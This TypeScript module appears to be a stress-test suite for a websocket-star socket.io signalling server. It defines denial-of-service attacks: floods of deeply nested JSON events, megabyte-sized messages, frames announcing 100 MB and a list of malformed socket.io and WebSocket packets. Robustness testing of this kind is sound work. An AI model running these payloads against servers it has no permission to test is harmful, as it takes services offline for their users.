import { setTimeout as delay } from 'node:timers/promises'
import { BINARY, maskedFrame, textFrame } from '@websocket-star/testkit'
import type { Attack, Scene } from './attack.js'
import { burstOf, flood } from './flood.js'
import { besiege, ignoreAnswers } from './peers.js'

/** Packets that are large, deep or not packets at all. */

function nested(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`
}

/** Sends the same large messages again and again; who is closed comes back. */
function sending(name: string, about: string, texts: readonly string[], eio: '3' | '4' = '3'): Attack {
  const burst = burstOf(
    texts.map((text) => textFrame(text)),
    texts.length
  )
  return {
    name,
    about,
    run: async (scene) =>
      await besiege(scene, { eio, pause: 20 }, async (peer) => {
        ignoreAnswers(peer)
        await flood(scene, peer.tcp, burst)
      })
  }
}

const MALFORMED: readonly Buffer[] = [
  ...[
    '',
    '9',
    '4',
    '49',
    '42',
    '42[',
    '42[]',
    '42{}',
    '42"x"',
    '42[1]',
    '421e9["x"]',
    '4299999999999999999999["x"]',
    '42-1["x"]',
    '45',
    '451',
    '45-["x"]',
    '451-["x"]',
    '451-["x",{"_placeholder":true,"num":1}]',
    '451-["x",{"_placeholder":true,"num":0.5}]',
    '451-["x",{"_placeholder":true,"num":-1}]',
    '4511-["x",{"_placeholder":true,"num":0}]',
    '4599999999-["x"]',
    '451-["x",{"_placeholder":true,"num":0}]42["x"]',
    '46',
    '461-0[{"_placeholder":true,"num":0}]',
    '44',
    '44{"message":"x"}',
    '43',
    '43x',
    '40{',
    '40/x,{"a":1}',
    '0{}',
    '5',
    '6',
    '1',
    '2probe',
    '\u0000',
    '42["x","\\ud800"]',
    '42["socket.io-pull-stream.queue.x.dialer",{"length":500000000}]'
  ].map((text) => textFrame(text)),
  maskedFrame(BINARY, Buffer.alloc(0)),
  maskedFrame(BINARY, Buffer.of(4)),
  maskedFrame(BINARY, Buffer.of(9, 9)),
  maskedFrame(1, Buffer.of(0xff, 0xfe)),
  maskedFrame(3, Buffer.of(1)),
  maskedFrame(8, Buffer.of(1)),
  Buffer.from('GET / HTTP/1.1\r\n\r\n'),
  Buffer.of(0xff, 0xff, 0xff, 0xff),
  Buffer.from('818000', 'hex'),
  Buffer.from('8180ffffffffffffffffffff', 'hex')
]

/** Sends one malformed packet after the other, each over as many connections as it takes. */
async function malformed(scene: Scene): Promise<void> {
  let next = 0
  await besiege(scene, { pause: 0 }, async (peer) => {
    ignoreAnswers(peer)
    while (!scene.signal.aborted && !peer.isClosed) {
      peer.tcp.write(MALFORMED[next++ % MALFORMED.length] ?? '')
      scene.tally.messages++
      await delay(5)
    }
  })
}

/** Announces a frame of 100 MB and sends it. */
async function oversized(scene: Scene): Promise<void> {
  const head = Buffer.from('81ff00000000064000005a5a5a5a', 'hex')
  const body = { bytes: Buffer.alloc(65_536, 'a'), messages: 0 }
  await besiege(scene, { pause: 20 }, async (peer) => {
    peer.tcp.write(head)
    scene.tally.messages++
    await flood(scene, peer.tcp, body)
  })
}

export const PACKETS: readonly Attack[] = [
  sending('nested-errors', 'socket.io ERROR packets nested 4,000 deep', [`44${nested(4_000)}`]),
  sending('deep-events', 'events nested 240,000 deep', [`42["x",${nested(240_000)}]`]),
  sending('shallow-events', 'events of 60 kB with as much nesting as is allowed', [
    `42["x",${Array.from({ length: 4_000 }, () => '[[[[[[[]]]]]]]').join(',')}]`
  ]),
  sending('large-events', 'events of 1 MB', [`42["x","${'a'.repeat(1_000_000)}"]`]),
  sending('small-objects', 'events of 60 kB of small objects', [
    `42["x",${Array.from({ length: 7_500 }, (_, index) => `{"a":${index % 10}}`).join(',')}]`
  ]),
  sending('large-connects', 'CONNECTs of 900 kB', [`40{"a":"${'a'.repeat(900_000)}"}`], '4'),
  sending('large-dial-ids', 'dials with an id of 900 kB', [`420["ss-dial","/a","/b","${'x'.repeat(900_000)}"]`]),
  sending('large-addresses', 'joins with an address of 900 kB', [
    `420["ss-join","${'/ip4/1.2.3.4'.repeat(75_000)}",""]`
  ]),
  sending('queue-lengths', 'chunks that say they are 500 MB long', [
    '42["socket.io-pull-stream.queue.x.dialer",{"length":500000000}]'
  ]),
  { name: 'oversized-frames', about: 'frames of 100 MB', run: oversized },
  { name: 'malformed-packets', about: 'packets that are none, one after the other', run: malformed }
]
